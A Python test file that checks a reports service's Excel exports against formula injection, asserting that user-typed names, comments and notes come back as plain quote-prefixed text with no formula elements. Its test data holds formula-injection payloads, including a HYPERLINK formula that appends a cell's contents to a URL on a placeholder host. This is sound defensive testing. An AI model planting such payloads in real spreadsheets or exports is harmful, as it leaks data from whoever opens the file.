"""Fault-matrix row 13, formula injection: user text in /export and /report is text, never a formula.

Every sheet of both workbooks is read back from the saved XLSX: no cell is a formula, the raw
sheet XML holds no <f> element, each value reads back exactly (as a spreadsheet decodes
OOXML's _xHHHH_ escapes), and a risky one carries quotePrefix so it stays text when edited.
"""

import re
import zipfile
from io import BytesIO

from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from sqlalchemy import update

from bot.i18n import t
from models import MemberProfile, Rating, User, Wish, WishEvent
from services.reports import units
from services.reports.export import export_workbook
from services.reports.periods import month_period
from tests.factories import build_world
from tests.reports.data import TZ, add_wish, local

MARCH = month_period(2025, 3)
INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://x/?"&C2,"点我")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def hostile_month(db, catalogue):
    """Branch A in March 2025 where everything people typed is a would-be formula."""
    w = build_world(db, catalogue)
    with db.write() as s:
        s.execute(update(User).where(User.id == w.resident_id).values(name=INJECTIONS[0]))
        for i, member in enumerate(w.members):
            s.execute(update(User).where(User.id == member).values(name=INJECTIONS[i + 1]))
            unit = update(MemberProfile).where(MemberProfile.user_id == member)
            s.execute(unit.values(work_unit=INJECTIONS[i + 4]))
        for i, value in enumerate(INJECTIONS):
            member = w.members[i % 3]
            done = add_wish(s, w, "confirmed", local(2025, 3, 2 + i), triage_h=1, assign_h=2,
                                  complete_h=3, member=member, score=4, hours=1, text=value)  # fmt: skip
            done.completion_note = value
            s.execute(update(Rating).where(Rating.wish_id == done.id).values(comment=value))
            s.add(WishEvent(wish_id=done.id, actor_id=member, to_status="completed", note=value,
                            at=local(2025, 3, 2 + i, 14)))  # fmt: skip
            rejected = add_wish(s, w, "rejected", local(2025, 3, 12 + i), triage_h=1,
                                      reason="unclear", text=value)  # fmt: skip
            rejected.rejection_note = value
        s.flush()
        assert s.get(Wish, done.id).completion_note == INJECTIONS[-1]
    return w


def cells(data: bytes) -> dict[str, list]:
    """Every cell of every sheet, by sheet title."""
    book = load_workbook(BytesIO(data))
    return {ws.title: [c for row in ws.iter_rows() for c in row] for ws in book.worksheets}


def assert_no_formula_anywhere(data: bytes) -> None:
    with zipfile.ZipFile(BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = z.read(name).decode()
            assert not re.search(r"<(\w+:)?f[ >/]", xml), name  # no formula element at all
    for title, found in cells(data).items():
        assert not [c.coordinate for c in found if c.data_type == "f"], title


def values_of(found: list) -> set:
    return {unescape(c.value) for c in found if isinstance(c.value, str)}


def risky_cells_are_quote_prefixed(found: list) -> bool:
    risky = [c for c in found if isinstance(c.value, str) and unescape(c.value).startswith(tuple("=+-@\t\r"))]
    return bool(risky) and all(c.quotePrefix for c in risky)


def test_formula_injection_every_sheet_of_export_keeps_user_text_as_plain_text(db, catalogue):
    w = hostile_month(db, catalogue)
    with db.read() as s:
        data = export_workbook(
            s, actor_id=w.staff_id, branch_id=w.branch_id, period=MARCH, tz=TZ, catalogue=catalogue,
            lang="zh", tr=lambda key: t("zh", key),
        )  # fmt: skip
    assert_no_formula_anywhere(data)
    sheets = cells(data)
    wishes, ledger, ratings, rejections = (sheets[t("zh", f"export.sheet.{k}")] for k in
                                           ("wishes", "ledger", "ratings", "rejections"))  # fmt: skip
    assert set(INJECTIONS) <= values_of(wishes)  # resident, text, member, comment, note
    assert INJECTIONS[0] in {unescape(c.value) for c in wishes if c.column == 13}  # 居民
    assert set(INJECTIONS[1:7]) <= values_of(ledger)  # member names and work units
    assert set(INJECTIONS) <= values_of(ratings)  # comments, and member names
    assert set(INJECTIONS) <= values_of(rejections)  # text and the reason's note
    for title, found in sheets.items():
        assert risky_cells_are_quote_prefixed(found), title
    timeline = next(c.value for c in wishes if c.column == 24 and c.row == 2)
    assert timeline.endswith(": =1+1")  # the note, inside the timeline, as typed


def test_formula_injection_every_sheet_of_each_work_unit_file_keeps_user_text_as_plain_text(db, catalogue):
    w = hostile_month(db, catalogue)
    with db.read() as s:
        files = units.unit_files(
            s, actor_id=w.staff_id, branch_id=w.branch_id, month=MARCH, tz=TZ, catalogue=catalogue,
            lang="zh", tr=lambda key: t("zh", key), key=units.ALL_UNITS,
        )  # fmt: skip
    assert sorted(f.unit.name for f in files) == sorted(INJECTIONS[4:7])
    for f in files:
        assert_no_formula_anywhere(f.workbook)
        sheets = cells(f.workbook)
        assert len(sheets) == 2
        for title, found in sheets.items():
            assert risky_cells_are_quote_prefixed(found), title
        [member] = f.unit.members
        assert {member.name, f.unit.name} <= values_of([c for found in sheets.values() for c in found])


def test_a_control_character_in_user_text_is_dropped_instead_of_failing_the_whole_workbook():
    from zoneinfo import ZoneInfo

    from services.reports.workbook import Sheet, build_workbook

    data = build_workbook([Sheet("x", ["h"], [["a\x01b\x1f", "'quoted'"]])], tz=ZoneInfo("UTC"))
    [row] = list(load_workbook(BytesIO(data)).active.iter_rows(min_row=2, values_only=True))
    assert row == ("ab", "'quoted'")


def test_a_sheet_title_from_user_text_is_one_excel_accepts():
    from services.reports.workbook import safe_title

    taken: set[str] = set()
    assert safe_title("'=1+1'", taken) == "=1+1"  # Excel refuses a quote at either end
    assert safe_title("a[b]:c*?/\\d\x07", taken) == "a_b__c____d"
    assert safe_title("=1+1", taken) == "=1+1 (2)"
    assert safe_title("\x01", taken) == "Sheet"
